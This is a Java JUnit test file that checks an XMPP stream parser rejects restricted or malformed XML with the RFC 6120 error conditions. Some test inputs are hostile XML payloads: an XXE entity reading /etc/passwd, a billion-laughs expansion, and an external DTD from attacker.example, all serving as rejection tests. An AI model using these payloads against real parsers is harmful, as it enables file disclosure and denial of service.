package dev.kith.chat.xml;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("The XML a stream may not carry (RFC 6120 §4.9.3, §11) and the error each gets")
class XmppStreamRestrictionsTest {

  private static final String OPEN =
      "<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'"
          + " to='example.org' version='1.0'>";

  /** The condition the stream fails with after {@code chunks}, fed whole and byte by byte. */
  private static String condition(String... chunks) {
    Recorder whole = new Recorder().feed(chunks);
    Recorder bytes = new Recorder().feedOneByteAtATime(String.join("", chunks));
    assertThat(whole.events).as("events").last().asString().startsWith("failed ");
    assertThat(bytes.error).as("byte by byte").isNotNull();
    assertThat(bytes.error.condition()).as("byte by byte").isEqualTo(whole.error.condition());
    assertThat(whole.events.stream().filter(e -> e.startsWith("failed"))).hasSize(1);
    return whole.error.condition();
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "<message><!-- hidden --><body>hi</body></message>",
        "<!-- between stanzas -->",
        "<message><?php echo 1; ?></message>",
        "<?pi between stanzas?>",
        "<message><body>&xxe;</body></message>",
        "<message><body>&lol9;</body></message>",
        "<message to='&xxe;'/>",
      })
  @DisplayName("Comments, processing instructions and entity references are restricted-xml")
  void restrictedInStream(String stanza) {
    assertThat(condition(OPEN, stanza)).isEqualTo("restricted-xml");
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "<!DOCTYPE stream:stream [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE lolz [<!ENTITY lol 'lol'><!ENTITY lol2 '&lol;&lol;'>]>",
        "<!DOCTYPE stream:stream SYSTEM 'http://attacker.example/x.dtd'>",
        "<?xml version='1.0'?><!-- hello -->",
        "<?xml version='1.0'?><?xml-stylesheet href='x'?>",
      })
  @DisplayName("A DTD, comment or processing instruction before the header is restricted-xml")
  void restrictedInProlog(String prolog) {
    assertThat(condition(prolog + OPEN)).isEqualTo("restricted-xml");
  }

  @Test
  @DisplayName("The predefined entities and character references are read as their characters")
  void predefinedEntities() {
    Recorder r =
        new Recorder()
            .feed(
                OPEN,
                "<message id='&quot;&amp;&apos;&#60;'><body>&lt;&gt;&amp;&quot;&apos;&#x1F600;"
                    + "&#128512;<![CDATA[<b>]]></body></message>");

    XmlElement message = r.stanzas.get(0);
    assertThat(message.attr("id")).isEqualTo("\"&'<");
    assertThat(message.childText("body", "jabber:client"))
        .isEqualTo("<>&\"'\uD83D\uDE00\uD83D\uDE00<b>");
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "<message></presence>",
        "<message><body></message>",
        "<foo:message/>",
        "<message a='1' a='2'/>",
        "<message>&#1;</message>",
        "<message>&#xFFFE;</message>",
        "<message>\u0001</message>",
        "<message a=1/>",
        "<message><!DOCTYPE x></message>",
      })
  @DisplayName("Malformed XML inside the stream is not-well-formed")
  void notWellFormed(String stanza) {
    assertThat(condition(OPEN, stanza)).isEqualTo("not-well-formed");
  }

  @Test
  @DisplayName("Bytes that are not UTF-8 are not-well-formed")
  void invalidUtf8() {
    Recorder r = new Recorder().feed(OPEN);
    byte[] bad = "<message><body>\u00e9</body></message>".getBytes(StandardCharsets.ISO_8859_1);

    assertThat(r.feedBytes(bad).error.condition()).isEqualTo("not-well-formed");
  }

  @Test
  @DisplayName("An XML declaration after the start is not-well-formed")
  void lateDeclaration() {
    assertThat(condition(" <?xml version='1.0'?>" + OPEN)).isEqualTo("not-well-formed");
  }

  @Test
  @DisplayName("XML 1.1 is not-well-formed: XMPP is XML 1.0")
  void xml11() {
    assertThat(condition("<?xml version='1.1'?>" + OPEN)).isEqualTo("not-well-formed");
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "<stream xmlns='jabber:client'>",
        "<stream:stream xmlns='jabber:client' xmlns:stream='urn:wrong'>",
        "<stream:features xmlns:stream='http://etherx.jabber.org/streams'>",
        "<message xmlns='jabber:client'/>",
      })
  @DisplayName("A first element other than <stream:stream> in its namespace is invalid-namespace")
  void wrongRoot(String root) {
    assertThat(condition(root)).isEqualTo("invalid-namespace");
  }

  @Test
  @DisplayName("The content namespace is the session's to judge: the parser passes it on")
  void otherDefaultNamespace() {
    Recorder r =
        new Recorder()
            .feed(
                "<stream:stream xmlns='urn:other' xmlns:stream='http://etherx.jabber.org/streams'>");
    Recorder none =
        new Recorder().feed("<stream:stream xmlns:stream='http://etherx.jabber.org/streams'>");

    assertThat(r.events).containsExactly("open urn:other");
    assertThat(none.events).containsExactly("open ");
  }

  @Test
  @DisplayName("A declared encoding other than UTF-8 is unsupported-encoding")
  void declaredEncoding() {
    assertThat(condition("<?xml version='1.0' encoding='ISO-8859-1'?>" + OPEN))
        .isEqualTo("unsupported-encoding");
    assertThat(new Recorder().feed("<?xml version='1.0' encoding='utf-8'?>" + OPEN).events)
        .containsExactly("open jabber:client");
  }

  @Test
  @DisplayName("A stream in UTF-16, with or without a byte order mark, is unsupported-encoding")
  void utf16() {
    byte[] withMark = ("\uFEFF" + OPEN).getBytes(StandardCharsets.UTF_16BE);
    byte[] withoutMark = OPEN.getBytes(StandardCharsets.UTF_16LE);

    assertThat(new Recorder().feedBytes(withMark).error.condition())
        .isEqualTo("unsupported-encoding");
    assertThat(new Recorder().feedBytes(withoutMark).error.condition())
        .isEqualTo("unsupported-encoding");
  }

  @Test
  @DisplayName("Text between stanzas is bad-format")
  void textBetweenStanzas() {
    assertThat(condition(OPEN, "<presence/>hello<presence/>")).isEqualTo("bad-format");
    assertThat(condition(OPEN, "<![CDATA[ ]]>")).isEqualTo("bad-format");
  }
}
